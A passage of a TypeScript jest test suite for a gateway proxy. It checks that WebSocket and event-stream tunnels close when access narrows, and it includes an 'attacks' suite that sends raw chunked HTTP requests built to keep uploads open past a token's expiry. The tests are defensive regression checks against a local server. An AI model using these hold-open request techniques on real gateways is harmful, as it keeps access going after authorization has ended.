    await swap(tableWith('public'));
    const anonymous = await openWebSocket(proxyPort, tls.ca, hostName(), {});
    // Admitted as public: the token's expiry and origin rules were never applied to it.
    const owner = await openWebSocket(proxyPort, tls.ca, hostName(), { 'x-gateway-token': tokens.alice });
    expect(await echo(anonymous, 'before')).toBe('before');
    const [anonymousClosed, ownerClosed] = [closed(anonymous), closed(owner)];
    await swap(tableWith('private'));
    expect(await beforeDeadline(anonymousClosed, 'the tunnel to end')).toBe(1006);
    expect(await beforeDeadline(ownerClosed, 'the tunnel to end')).toBe(1006);
    expect(log.entries.some((e) => e.reason === 'access-changed' && e.port === portOf(app.server) && e.subject === undefined)).toBe(true);
    const again = await openWebSocket(proxyPort, tls.ca, hostName(), { 'x-gateway-token': tokens.alice });
    expect(await echo(again, 'again')).toBe('again');
    again.close();
    await expect(openWebSocket(proxyPort, tls.ca, hostName(), {})).rejects.toThrow(/401/);
  });

  it("a member's WebSocket on an organization port ends when the port becomes private; a new request is refused", async () => {
    await swap(tableWith('organization'));
    const member = await openWebSocket(proxyPort, tls.ca, hostName(), { 'x-gateway-token': tokens.bob });
    expect(await echo(member, 'before')).toBe('before');
    const memberClosed = closed(member);
    await swap(tableWith('private'));
    expect(await beforeDeadline(memberClosed, 'the tunnel to end')).toBe(1006);
    expect((await fetchVia(proxyPort, tls.ca, hostName(), '/', { headers: { 'x-gateway-token': tokens.bob } })).status).toBe(403);
  });

  it("the owner's own WebSocket ends when the environment is handed to someone else", async () => {
    await swap(tableWith('private'));
    const ws = await openWebSocket(proxyPort, tls.ca, hostName(), { 'x-gateway-token': tokens.alice });
    expect(await echo(ws, 'before')).toBe('before');
    const wsClosed = closed(ws);
    await swap(tableWith('private', BOB));
    expect(await beforeDeadline(wsClosed, 'the tunnel to end')).toBe(1006);
  });

  it('an anonymous Server-Sent Events stream on a public port ends, short of its end, when the port becomes private', async () => {
    await swap(tableWith('public'));
    // Wrapped: a promise resolved with a promise would wait for it.
    const stream = await beforeDeadline(
      new Promise<{ ended: Promise<boolean> }>((resolve, reject) => {
        const req = httpsRequest({ host: '127.0.0.1', port: proxyPort, servername: hostName(), ca: tls.ca, path: '/events', headers: { host: hostName() }, agent: false }, (res) => {
          res.on('error', () => {}); // "aborted": seen through `complete`
          resolve({ ended: new Promise((done) => res.on('close', () => done(res.complete))) });
          res.resume();
        });
        req.on('error', reject);
        req.end();
      }),
      'the stream to start',
    );
    await swap(tableWith('private'));
    expect(await beforeDeadline(stream.ended, 'the stream to end')).toBe(false);
  });

  it('a port taken out of the table (unpublished, or its host revoked) ends its open tunnels, public or not', async () => {
    await swap(tableWith('public'));
    const anonymous = await openWebSocket(proxyPort, tls.ca, hostName(), {});
    expect(await echo(anonymous, 'before')).toBe('before');
    const anonymousClosed = closed(anonymous);
    await swap({ version: String(version++), routes: [{ ...tableWith('public').routes[0], ports: [] }] });
    expect(await beforeDeadline(anonymousClosed, 'the tunnel to end')).toBe(1006);

    await swap(tableWith('private'));
    const owner = await openWebSocket(proxyPort, tls.ca, hostName(), { 'x-gateway-token': tokens.alice });
    expect(await echo(owner, 'before')).toBe('before');
    const ownerClosed = closed(owner);
    await swap({ version: String(version++), routes: [] });
    expect(await beforeDeadline(ownerClosed, 'the tunnel to end')).toBe(1006);
    expect(log.entries.filter((e) => e.reason === 'access-changed' && e.port === portOf(app.server)).length).toBeGreaterThanOrEqual(2);
  });

  it('a route table that widens access, or changes nothing for the port, leaves open tunnels alone', async () => {
    await swap(tableWith('private'));
    const ws = await openWebSocket(proxyPort, tls.ca, hostName(), { 'x-gateway-token': tokens.alice });
    await swap(tableWith('organization'));
    await swap(tableWith('public'));
    await swap(tableWith('private'));
    expect(await echo(ws, 'still')).toBe('still');
    ws.close();
  });
});

/**
 * Keeping an upload flowing past the token's expiry by the paths the upload timer (2ba18fc)
 * might miss: a body that starts only after `100 Continue`, and a chunked body whose last chunk
 * came in time but whose trailers never end. jest's clock runs as usual while the upload begins
 * (the token has a minute left), then jumps past the expiry: the order is fixed, not timed.
 */
describe('attacks on the gateway proxy: uploads kept open past the token', () => {
  const tmp = tempDir('proxy-attacks-uploads-');
  const tls = makeTlsFixture(tmp.dir, DOMAIN);
  const keys = testSigner();
  const log = new MemoryAccessLog();
  const received: { bytes: number; complete: boolean; closed: boolean }[] = [];
  let app: Server;
  let proxy: ProxyServer;
  let proxyPort: number;
  const sockets: import('node:tls').TLSSocket[] = [];

  const hostName = () => proxyHostName(portOf(app), 'h-alice', DOMAIN);
  const expiries = () => log.entries.filter((e) => e.reason === 'token-expired');

  beforeAll(async () => {
    // Node answers `Expect: 100-continue` with 100 Continue by itself.
    app = createServer((req, res) => {
      const r = { bytes: 0, complete: false, closed: false };
      received.push(r);
      req.socket.once('close', () => (r.closed = true));
      req.on('data', (c: Buffer) => (r.bytes += c.length));
      req.on('end', () => {
        r.complete = true;
        res.end('done');
      });
    });
    await new Promise<void>((r) => app.listen(0, '127.0.0.1', () => r()));
    const table: RouteTable = {
      version: '1',
      routes: [{ hostId: 'h-alice', ip: '127.0.0.1', owner: ALICE, ports: [{ port: portOf(app), access: 'private', protocol: 'http' }] }],
    };
    ({ proxy, port: proxyPort } = await startTestProxy({ domain: DOMAIN, tls, table, tokenPublicKey: keys.publicKey, accessLog: log }));
  });

  beforeEach(() => jest.useFakeTimers({ advanceTimers: true, doNotFake: ['nextTick', 'setImmediate', 'queueMicrotask'] }));

  afterEach(() => {
    jest.useRealTimers();
    for (const s of sockets.splice(0)) s.destroy();
  });

  afterAll(async () => {
    await proxy?.close();
    app?.closeAllConnections();
    await new Promise((r) => app?.close(r));
    tmp.cleanup();
  });

  /** Opens a raw client, sends `head`; resolves with the socket, what it has received, and its close. */
  async function begin(head: string) {
    const socket = await new Promise<import('node:tls').TLSSocket>((resolve, reject) => {
      const s = tlsConnect({ host: '127.0.0.1', port: proxyPort, ca: tls.ca, servername: hostName() }, () => resolve(s));
      s.on('error', reject);
    });
    sockets.push(socket);
    const state = { text: '', closed: new Promise<void>((r) => socket.once('close', () => r())) };
    socket.setEncoding('latin1');
    socket.on('data', (c: string) => (state.text += c));
    socket.on('error', () => {});
    socket.write(head);
    return { socket, state };
  }

  const token = () => mintAccessToken({ signer: keys.signer, principal: ALICE, ttlSeconds: 60 });

  it('a body that begins after 100 Continue is cut at the expiry', async () => {
    const before = received.length;
    const earlier = expiries().length;
    const { socket, state } = await begin(
      `POST /up HTTP/1.1\r\nHost: ${hostName()}\r\nX-Gateway-Token: ${await token()}\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n`,
    );
    await eventually(() => state.text.includes('100 Continue'));
    socket.write('5\r\nhello\r\n');
    await eventually(() => received[before]?.bytes === 5);
    jest.advanceTimersByTime(61_000);
    await beforeDeadline(state.closed, 'the client connection to close');
    await eventually(() => received[before].closed);
    expect(received[before]).toMatchObject({ bytes: 5, complete: false });
    expect(state.text).not.toContain('done');
    await eventually(() => expiries().length > earlier);
  });

  it('a chunked body whose trailers never end is cut at the expiry', async () => {
    const before = received.length;
    const earlier = expiries().length;
    const { socket, state } = await begin(
      `POST /up HTTP/1.1\r\nHost: ${hostName()}\r\nX-Gateway-Token: ${await token()}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-Trailer: a\r\n`,
    );
    await eventually(() => received[before]?.bytes === 5);
    jest.advanceTimersByTime(61_000);
    socket.write('X-More: b\r\n'); // still no blank line: the body goes on
    await beforeDeadline(state.closed, 'the client connection to close');
    await eventually(() => received[before].closed);
    expect(received[before].complete).toBe(false);
    expect(state.text).toBe('');
    await eventually(() => expiries().length > earlier);
  });
});
